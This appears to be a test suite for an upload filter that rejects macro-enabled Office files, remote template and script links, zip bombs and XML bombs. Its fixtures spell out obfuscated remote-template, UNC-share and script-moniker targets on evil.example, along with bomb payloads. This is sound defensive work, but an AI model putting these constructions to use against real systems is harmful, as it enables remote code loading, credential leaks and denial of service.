import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { startApp, type TestApp } from '../../../test/app.ts';
import { answers, older, override, packed, sendsDocuments, types } from '../../../test/factories/documents.ts';
import { bytesOf } from '../../../test/factories/files.ts';
import { aPerson } from '../../../test/factories/people.ts';
import { documentsInTurn, picturesInTurn, shareOf } from './looking.ts';

const { taken, macros: refused, reaches, holds } = answers;

describe('office documents with macros', () => {
  let app: TestApp;
  let send: ReturnType<typeof sendsDocuments>;
  beforeAll(async () => {
    app = await startApp('empty');
    send = sendsDocuments(app, (await aPerson(app, { isAdmin: true })).token);
  });
  afterAll(() => app.close());

  it('are refused whatever they are called and wherever they are taken', async () => {
    const pad = { 'word/media/image1.bin': Buffer.alloc(200_000, 7) };
    const plain = { '[Content_Types].xml': types(), ...pad, 'word/document.xml': '<w/>' };
    const program = await packed({ ...plain, 'word/vbaProject.bin': 'x' });
    const renamed = {
      ...plain,
      '[Content_Types].xml': types(override('/a.bin', 'application/vnd.ms-office.vbaProject')),
    };
    const sheet = 'application/vnd.ms-excel.sheet.macroEnabled.main+xml';
    const sheets = await packed({ '[Content_Types].xml': types(override('/xl/workbook.xml', sheet)), ...pad });
    for (const where of ['document', 'attachment', 'application']) {
      expect(await send('通知.docx', program, where), where).toMatchObject(refused);
      expect(await send('名单.xlsx', sheets, where), where).toMatchObject(refused);
    }
    expect(await send('通知.docx', await packed({ ...renamed, 'a.bin': 'x' }))).toMatchObject(refused);
    const spelt = renamed['[Content_Types].xml'].replace('vbaProject', 'vba&#x50;roject');
    expect(await send('通知.docx', await packed({ ...plain, '[Content_Types].xml': spelt }))).toMatchObject(refused);
    expect(await send('讲稿.pptx', await packed({ ...plain, 'PPT/VBAPROJECT.BIN': 'x' }))).toMatchObject(refused);
    expect(await send('通知.docx', await packed(plain))).toMatchObject(taken);
  });

  it('that would be fetched with a template from another machine are refused as well, one of the own disk is not', async () => {
    const to = (target: string, type = 'attachedTemplate') => `<?xml version="1.0"?>
      <Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1"
      Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}"
      Target="${target}" TargetMode="External"/></Relationships>`;
    const named = (rels: string | Buffer, part = 'word/_rels/settings.xml.rels') =>
      packed({ '[Content_Types].xml': types(), 'word/document.xml': '<w/>', [part]: rels });
    for (const target of [
      'https://evil.example/a.dotm',
      '&#104;ttp://evil.example/a.dotm',
      '\\\\evil.example\\a.dotm',
      'file://evil.example/a.dotm',
      'file://localhost//evil.example/a.dotm',
      'file://localhost.evil.example/a.dotm',
      'file:////evil.example/a.dotm',
      'file:\\\\evil.example\\a.dotm',
      'mhtml:https://evil.example/a.dotm',
      '\u200b\\\\evil.example\\a.dotm',
    ])
      expect(await send('通知.docx', await named(to(target))), target).toMatchObject(reaches);
    for (const target of [
      'file:///C:/Templates/a.dotx',
      'file:///C:\\Users\\Templates\\a.dotx',
      'C:\\Templates\\a.dotx',
      // As programs of a Mac write it.
      'file://localhost/Users/Templates/a.dotx',
      'Normal.dotm',
    ])
      expect(await send('通知.docx', await named(to(target))), target).toMatchObject(taken);
    for (const target of ['file:///C:\\表\\a.xlsx', '/Users/a/表.xls', '附件.et'])
      expect(await send('通知.docx', await named(to(target, 'externalLinkPath'))), target).toMatchObject(taken);
    const wide = Buffer.from(to('http://evil.example/a.dotm'), 'utf16le');
    expect(await send('通知.docx', await named(wide, 'other/_rels/any.xml.rels'))).toMatchObject(reaches);
    const object = to('script:http://evil.example/a.sct', 'oleObject');
    expect(await send('讲稿.pptx', await named(object, 'ppt/slides/_rels/slide1.xml.rels'))).toMatchObject(reaches);
    for (const spelt of ['word/%5frels/document.xml.rels', 'word/_rel%73/document.xml.rels'])
      expect(await send('通知.docx', await named(object, spelt)), spelt).toMatchObject({ status: 400 });
    const picture = { 'word/media/%E5%9B%BE.png': 'x', '[Content_Types].xml': types() };
    expect(await send('通知.docx', await packed(picture))).toMatchObject(taken);
    expect(await send('通知.docx', await named(to('https://good.example/', 'hyperlink')))).toMatchObject(taken);
  });

  it('that a list names in other letters, by another word or for another part are refused as well', async () => {
    const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
    const relation = (type: string, target: string) => `<Relationship Id="r1" Type="${type}" Target="${target}"/>`;
    const list = (inner: string, encoding = 'UTF-8') =>
      `<?xml version="1.0" encoding="${encoding}"?><Relationships>${inner}</Relationships>`;
    const named = (rels: string | Buffer, part = 'word/_rels/document.xml.rels') =>
      packed({ '[Content_Types].xml': types(), 'word/document.xml': '<w/>', [part]: rels });
    const template = relation(`${office}/attachedTemplate`, 'https://evil.example/a.dotm');
    // Half of each of these letters is a sign of XML: read byte by byte, the template stands within an instruction.
    const hidden = `<!--\u2d2d\u203e\u3f3cx --> ${template} <!--\u3e3f-->`;
    for (const wide of [`\ufeff${list(hidden, 'UTF-16')}`, list(hidden, 'UTF-16')]) {
      const little = Buffer.from(wide, 'utf16le');
      expect(await send('通知.docx', await named(little))).toMatchObject(reaches);
      expect(await send('通知.docx', await named(Buffer.from(little).swap16()))).toMatchObject(reaches);
    }
    for (const rels of [
      relation(`${office}/oleObject`, 'mhtml:https://evil.example/a.html!x-usc:https://evil.example/a.html'),
      relation(`${office}/oleObject`, '\\\\evil.example\\a'),
      relation(`${office}/attachedTemplate`, '%5C%5Cevil.example%5Ca.dotm'),
      relation(`${office}/attachedTemplate`, '/%2fevil.example/a.dotm'),
      relation(`${office}/frame`, 'http://evil.example/'),
      relation(`${office}/package`, 'https://evil.example/a.xlsm'),
      // By the share of another machine it hears who somebody is.
      relation(`${office}/image`, '\\\\evil.example\\a.png'),
      relation(`${office}/image`, 'file://evil.example/a.png'),
      relation(`${office}/externalLinkPath`, 'mhtml:https://evil.example/a.html'),
      relation(`${office}/attachedTemplate`, 'ht&#9;tp://evil.example/a.dotm'),
      relation(`${office}/externalLinkPath`, 'file:///\\\\server\\share\\a.xlsx'),
    ]) {
      expect(await send('通知.docx', await named(list(rels))), rels).toMatchObject(reaches);
      const sheet = await named(list(rels), 'xl/worksheets/_rels/sheet1.xml.rels');
      expect(await send('名单.xlsx', sheet), rels).toMatchObject(reaches);
    }
    const program = relation('http://schemas.microsoft.com/office/2006/relationships/vbaProject', 'a.bin');
    expect(await send('通知.docx', await named(list(program)))).toMatchObject(refused);
    const broken = { status: 400, message: expect.stringContaining('打不开') };
    expect(await send('通知.docx', await named(list('', 'UTF-7')))).toMatchObject(broken);
    const pieces = {
      'word/_rels/document.xml.rels/[0].piece': '<R>',
      'word/_rels/document.xml.rels/[1].last.piece': '',
    };
    expect(await send('通知.docx', await packed({ '[Content_Types].xml': types(), ...pieces }))).toMatchObject(broken);
    for (const rels of [
      relation(`${office}/oleObject`, 'embeddings/oleObject1.bin'),
      relation(`${office}/image`, '/word/media/image1.png'),
      relation(`${office}/slideLayout`, '../slideLayouts/slideLayout1.xml'),
    ])
      expect(await send('通知.docx', await named(list(rels))), rels).toMatchObject(taken);
  });

  it('of older programs as well, at any place of the file', async () => {
    for (const before of [600, 64 * 1024 - 512 - 60, 300_000])
      expect(await send('通知.doc', older('_VBA_PROJECT', before)), String(before)).toMatchObject(refused);
    expect(await send('名单.xls', older('_VBA_PROJECT_CUR'))).toMatchObject(refused);
    // Locked by the password that programs try by themselves, it is opened with its program, and nobody can look.
    expect(await send('名单.xls', older('EncryptedPackage'))).toMatchObject(refused);
    // Names of the directory are compared without case.
    for (const name of ['_vba_project', '_Vba_Project', 'encryptedpackage', '_VBA_project_CUR'])
      expect(await send('通知.doc', older(name)), name).toMatchObject(refused);
    // A sheet of old macro formulas has no program in the directory.
    for (const start of ['0908100000064000', '0908080000054000', '0908080000064000', '0908100000054000']) {
      const sheet = Buffer.concat([older('Workbook'), Buffer.from(start, 'hex'), Buffer.alloc(512)]);
      expect(await send('名单.xls', sheet), start).toMatchObject(refused);
    }
    expect(await send('通知.doc', older('WordDocument'))).toMatchObject(taken);
    // A text that speaks of it is none.
    const words = Buffer.concat([bytesOf('container'), Buffer.from('_VBA_PROJECT 是什么'.repeat(40), 'utf16le')]);
    expect(await send('通知.doc', words)).toMatchObject(taken);
  });

  it('are refused within other documents as well, whatever they are called there', { tags: ['sweep'] }, async () => {
    const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
    const within = (type: string, part: string | Buffer, target = 'embeddings/s.xlsx', name = `word/${target}`) =>
      packed({
        '[Content_Types].xml': types(),
        'word/document.xml': '<w/>',
        'word/_rels/document.xml.rels': `<R><Relationship Id="r1" Type="${office}/${type}" Target="${target}"/></R>`,
        [name]: part,
      });
    const plain = await packed({ '[Content_Types].xml': types(), 'word/document.xml': '<w/>' });
    const program = await packed({ '[Content_Types].xml': types(), 'xl/vbaProject.bin': 'x' });
    for (const [i, bytes] of [
      await within('oleObject', older('_VBA_PROJECT'), 'embeddings/oleObject1.bin'),
      await within('package', program),
      await within('package', program, '/Any/S%2Exlsx', 'any/s.xlsx'),
      await within('package', program, '../other/./a.xml', 'other/a.xml'),
      await within('package', program, 'embeddings/表.xlsx'),
      await within('package', program, 'embeddings/%E8%A1%A8.xlsx', 'word/embeddings/表.xlsx'),
      // Two deep.
      await within('package', await within('package', program)),
    ].entries())
      expect(await send('通知.docx', bytes, 'attachment'), `${i}`).toMatchObject(refused);
    for (const [i, bytes] of [
      await within('oleObject', older('Contents'), 'embeddings/oleObject1.bin'),
      await within('package', plain),
      await within('package', plain, 'embeddings/gone.xlsx', 'word/other.xlsx'),
    ].entries())
      expect(await send('通知.docx', bytes, 'attachment'), `${i}`).toMatchObject(taken);
    expect(await send('通知.docx', await within('package', 'MZ 1234'), 'attachment')).toMatchObject(holds);
    const bomb = await within('package', Buffer.alloc(70 * 1024 * 1024));
    expect(bomb.length).toBeLessThan(100_000);
    expect(await send('通知.docx', bomb)).toMatchObject({ status: 400, message: expect.stringContaining('太大') });
  });

  it('are not unpacked without an end, and what cannot be read is not taken', async () => {
    const bomb = await packed({ 'a.xml': '<a/>', '[Content_Types].xml': Buffer.alloc(30 * 1024 * 1024, ' ') });
    expect(bomb.length).toBeLessThan(100_000);
    const broken = { status: 400, message: expect.stringContaining('打不开') };
    expect(await send('通知.docx', bomb)).toMatchObject(broken);
    const whole = await packed({ 'word/document.xml': Buffer.alloc(70_000, 7), 'word/a.xml': 'x' });
    expect(await send('通知.docx', whole.subarray(0, -30))).toMatchObject(broken);
  });

  it('are as flat as programs write them: two kilobytes that unfold to half a million nested elements are not read', async () => {
    const document = (list: string) =>
      packed({ '[Content_Types].xml': types(), 'word/document.xml': '<w/>', 'word/_rels/document.xml.rels': list });
    const broken = { status: 400, message: expect.stringContaining('打不开') };
    const many = (piece: string, n: number) => piece.repeat(n);
    for (const [what, list] of Object.entries({
      nested: `${many('<a>', 20)}${many('</a>', 20)}`,
      attributes: `<R ${Array.from({ length: 70 }, (_, i) => `a${i}="1"`).join(' ')}/>`,
      elements: `<R>${many('<a/>', 50_000)}</R>`,
      silent: `<R><!--${many('-', 700_000).replaceAll('--', '- ')}--></R>`,
      types: '<!DOCTYPE R><R/>',
    }))
      expect(await send('通知.docx', await document(list)), what).toMatchObject(broken);
    const before = process.memoryUsage().heapUsed;
    const deep = await document(many('<a>', 600_000));
    expect(deep.length).toBeLessThan(5000);
    expect(await send('通知.docx', deep)).toMatchObject(broken);
    expect(process.memoryUsage().heapUsed - before).toBeLessThan(80_000_000);
  });

  it('have as many lists as documents have, and all of them together end: a thousand small files are gigabytes', {
    tags: ['sweep'],
  }, async () => {
    const rels = (list: string | Buffer, n: number) =>
      Object.fromEntries(Array.from({ length: n }, (_, i) => [`word/_rels/part${i}.xml.rels`, list]));
    const document = (more: Record<string, string | Buffer>) =>
      packed({ '[Content_Types].xml': types(), 'word/document.xml': '<w/>', ...more });
    const entry = '<Relationship Id="" Type="" Target=""/>';
    const mega = `<Relationships>${entry.repeat(Math.floor(1_000_000 / entry.length))}</Relationships>`;
    const broken = { status: 400, message: expect.stringContaining('打不开') };
    expect(await send('通知.docx', await document(rels(mega, 1)))).toMatchObject(taken);
    expect(await send('通知.docx', await document(rels(mega, 3)))).toMatchObject(broken);
    // Slides with notes have two lists each; they lie together, and are not asked for one by one.
    const read = vi.spyOn(app.storage, 'getStream');
    expect(await send('讲稿.pptx', await document(rels('<Relationships/>', 2000)))).toMatchObject(taken);
    expect(read.mock.calls.length).toBeLessThan(50);
    read.mockRestore();
    expect(await send('通知.docx', await document(rels('<Relationships/>', 3200)))).toMatchObject(broken);
  });

  it('wait for their turn, as pictures do for theirs, and whatever is neither waits for none', async () => {
    const plain = await packed({ '[Content_Types].xml': types(), 'word/document.xml': '<w/>' });
    const held = Promise.withResolvers<void>();
    const busy = [documentsInTurn, documentsInTurn, picturesInTurn].map((inTurn) =>
      inTurn(shareOf({ ownerId: null }), () => held.promise),
    );
    let waiting = 2;
    const begun = [send('通知.docx', plain, 'attachment'), send('图.png', bytesOf('png'), 'attachment')];
    const avatar = send('图.png', bytesOf('png'), 'avatar');
    for (const one of [begun[0], avatar]) void one?.then(() => waiting--);
    // A picture that is kept as it is has nothing made of it.
    expect(await begun[1]).toMatchObject(taken);
    expect(await send('通知.pdf', bytesOf('pdf'), 'attachment')).toMatchObject(taken);
    expect(waiting).toBe(2);
    held.resolve();
    await Promise.all(busy);
    for (const one of [begun[0], avatar]) expect(await one).toMatchObject(taken);
  });
});
